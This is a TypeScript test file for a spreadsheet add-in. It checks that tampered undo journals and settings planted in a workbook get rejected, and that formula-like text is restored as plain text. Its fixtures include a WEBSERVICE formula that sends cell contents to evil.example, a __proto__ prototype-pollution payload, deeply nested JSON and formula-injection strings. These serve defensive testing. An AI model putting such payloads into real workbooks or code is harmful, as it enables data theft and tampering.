/** What somebody else has put into a workbook's settings: it writes no cell, takes nothing off, and stops no check. */
import type { Write } from "../../src/core/port/port";
import { createBook } from "../../src/workbench/book/create";
import type { Book } from "../../src/workbench/book/book";
import { bookOf, cell, stateOf } from "../excel/opened";
import { closePanes, openPane, valueIn } from "./opened";
import { mutableBook } from "../../src/workbench/book/mutable";

afterEach(async () => {
  await closePanes();
  Reflect.deleteProperty(globalThis, "localStorage");
});

const rows = [
  ["No", "Indikator", "Nilai Maks", "Nilai Mandiri", "Data Dukung"],
  [18, "Wajib Belajar 12 Tahun", 24, 20, "https://s.id/x"],
  [19, "Sekolah Ramah Anak", 51, "'=1+1", "https://s.id/y"],
];

/** What a browser keeps on one computer. */
function computer(): Map<string, string> {
  const kept = new Map<string, string>();
  const localStorage = {
    getItem: (name: string) => kept.get(name) ?? null,
    setItem: (name: string, value: string) => void kept.set(name, value),
  };
  Object.defineProperty(globalThis, "localStorage", { value: localStorage, configurable: true });
  return kept;
}

function freshBook(): Book {
  return createBook(bookOf({ name: "Rekap", rows }));
}

const write: Write = { at: cell("Rekap!D2"), from: { value: 20 }, to: { value: 19 } };
const evil = { formula: '=WEBSERVICE("https://evil.example/?"&A1)' };
const back = [{ at: cell("Rekap!D2"), from: { value: 20 }, to: evil, format: null }];
const entry = { kind: "freeze", back, landmarks: [[]] };
const deep = "[".repeat(200_000) + "]".repeat(200_000);

const planted: [string, unknown][] = [
  ["of the shape of before", JSON.stringify([{ back, landmarks: [[]] }])],
  ["without a seal", JSON.stringify({ entries: [entry] })],
  ["with a seal of zeros", JSON.stringify({ seal: "0".repeat(64), entries: [entry] })],
  ["with a seal that is none", JSON.stringify({ seal: "zz", entries: [entry] })],
  ["that is no JSON", '{"seal":'],
  ["that is no text", { seal: "", entries: [entry] }],
  ["that is nested without end", deep],
  ["with something nested in an entry", `{"seal":"${"0".repeat(64)}","entries":[{"kind":"fix","back":${deep}}]}`],
  ["of a million letters", JSON.stringify({ seal: "x".repeat(1_500_000), entries: [] })],
  ["of very many entries", JSON.stringify({ seal: "0".repeat(64), entries: Array(5000).fill(entry) })],
  [
    "for sheets that there are not",
    JSON.stringify({ seal: "", entries: [{ ...entry, back: [{ ...back[0], at: cell("Nirwana!A1") }] }] }),
  ],
  ["with names of the language's own", '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}},"entries":[]}'],
  [
    "with negative rows",
    JSON.stringify({
      seal: "",
      entries: [{ ...entry, back: [{ ...back[0], at: { sheet: "Rekap", row: -1, column: 1e99 } }] }],
    }),
  ],
];

test.each(planted)("a journal %s is not offered and writes nothing", async (_, value) => {
  computer();
  const book = freshBook();
  mutableBook(book).settings.set("KLA.journal", value);
  const before = stateOf(book);
  const { session } = await openPane(book);
  await session.begin();
  await session.check();
  expect(session.state()).toMatchObject({ journal: [], step: { is: "checked" }, notice: null });
  await session.undo();
  expect(stateOf(book)).toEqual(before);
  expect(Reflect.get({}, "isAdmin")).toBeUndefined();
});

/** A workbook with a change made in a pane on this computer; the journal stands in its settings. */
async function changed(): Promise<{ book: Book; kept: Map<string, string> }> {
  const kept = computer();
  const book = freshBook();
  const { session } = await openPane(book);
  await session.check();
  await session.fix([write]);
  expect(valueIn(book, write.at)).toBe(19);
  return { book, kept };
}

test("the journal of this computer is offered in a later session, that of another one is not", async () => {
  const { book, kept } = await changed();
  const same = await openPane(book);
  await same.session.check();
  expect(same.session.state()).toMatchObject({ isJournalForeign: false, journal: [{ kind: "fix" }] });
  kept.clear();
  const other = await openPane(book);
  await other.session.check();
  expect(other.session.state()).toMatchObject({ isJournalForeign: true, journal: [] });
  await other.session.undo();
  expect(valueIn(book, write.at)).toBe(19);
  await other.session.fix([{ ...write, from: { value: 19 }, to: { value: 18 } }]);
  expect(other.session.state()).toMatchObject({ isJournalForeign: false, journal: [{ kind: "fix" }] });
});

const changes: [string, string, string][] = [
  ["another value", '"to":{"value":20}', '"to":{"value":24}'],
  ["a formula", '"to":{"value":20}', '"to":{"formula":"=KLA.MAX(7)"}'],
  ["another cell", '"row":1', '"row":2'],
  ["another sheet", '"sheet":"Rekap"', '"sheet":"Rekap2"'],
  ["another kind", '"kind":"fix"', '"kind":"freeze"'],
  ["another format", '"format":null', '"format":";;;"'],
];

test.each(changes)("a journal of this computer in which somebody put %s is not offered", async (_, from, to) => {
  const { book } = await changed();
  const text = String(book.settings.get("KLA.journal"));
  expect(text).toContain(from);
  mutableBook(book).settings.set("KLA.journal", text.replace(from, to));
  const { session } = await openPane(book);
  await session.check();
  expect(session.state()).toMatchObject({ isJournalForeign: true, journal: [] });
});

test("the secret that seals is in no workbook", async () => {
  const { book, kept } = await changed();
  const [secret = ""] = kept.values();
  expect(secret).toMatch(/^[0-9a-f]{64}$/);
  expect(JSON.stringify([...book.settings])).not.toContain(secret);
});

test("where the browser keeps nothing, the way back holds until the pane is closed, and that is said", async () => {
  const refuse = (): never => {
    throw new Error("SecurityError");
  };
  Object.defineProperty(globalThis, "localStorage", {
    value: { getItem: refuse, setItem: refuse },
    configurable: true,
  });
  const book = freshBook();
  const { session } = await openPane(book);
  await session.check();
  await session.fix([write]);
  expect(session.state().notice?.text.en).toMatch(/only until this pane is closed: this browser/);
  await session.undo();
  expect(valueIn(book, write.at)).toBe(20);
});

test.each(["=1+1", " =1+1", "\t=A1", "+1", "-1+2", "@SUM(A1)", "＝1+1", "'=1"])(
  "a text like %j is put back as the text that it was, never as a formula",
  async (text) => {
    computer();
    const book = createBook(bookOf({ name: "Rekap", rows: [...rows, [20, "Pusat Kreativitas Anak", 35, text, "x"]] }));
    const { session } = await openPane(book);
    await session.check();
    await session.fix([{ at: cell("Rekap!D4"), from: { value: text }, to: { value: 3 } }]);
    await session.undo();
    expect([valueIn(book, cell("Rekap!D4")), book.sheets[0]?.formulas.size]).toEqual([text, 0]);
  },
);

const choices: [string, unknown][] = [
  ["nested without end", deep],
  [
    "of very many sheets",
    JSON.stringify(
      Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`S${at}`, { columns: { score: ["x"] } }])),
    ),
  ],
  [
    "with names of the language's own",
    '{"__proto__":{"columns":{"__proto__":["x"],"constructor":null}},"constructor":{"columns":{}}}',
  ],
  [
    "with a column that there is not",
    JSON.stringify({ Rekap: { columns: { toString: ["Nilai Maks"], nothing: ["x"] } } }),
  ],
  ["with a heading of a million letters", JSON.stringify({ Rekap: { columns: { score: ["x".repeat(1_000_000)] } } })],
  ["that are a list", "[1,2]"],
  ["that are a number", "7"],
];

test.each(choices)("choices %s keep no workbook from being checked", async (_, value) => {
  computer();
  const book = freshBook();
  mutableBook(book).settings.set("KLA.choices", value);
  const { session, report } = await openPane(book);
  await session.check();
  expect(session.state()).toMatchObject({ step: { is: "checked" }, notice: null });
  expect(report().entries).toHaveLength(2);
});
